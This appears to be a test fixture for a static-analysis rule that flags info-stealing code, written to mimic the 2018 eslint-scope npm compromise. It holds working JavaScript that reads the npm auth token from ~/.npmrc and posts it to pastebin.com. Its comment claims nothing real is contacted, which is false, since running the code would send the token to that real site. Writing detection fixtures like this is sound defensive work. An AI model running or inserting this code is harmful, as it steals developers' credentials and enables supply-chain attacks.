'use strict';
// Modelled on the 2018 eslint-scope compromise: read the npm token from ~/.npmrc on require and post it
// to a paste-site-like host. The host is a category placeholder; nothing real is contacted.
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

// ruleid: code/info-stealing
const npmrcPath = path.join(os.homedir(), '.npmrc');
let content = '';
try {
  content = fs.readFileSync(npmrcPath, 'utf8');
} catch (e) {
  content = '';
}
const token = (content.match(/_authToken=(.*)/) || [])[1] || 'none';
const body = 'api_option=paste&api_paste_code=' + encodeURIComponent(token);
// ruleid: code/info-stealing
const req = https.request({ hostname: 'pastebin.com', path: '/api/api_post.php', method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
req.on('error', () => {});
// ruleid: code/info-stealing
req.write(body);
req.end();
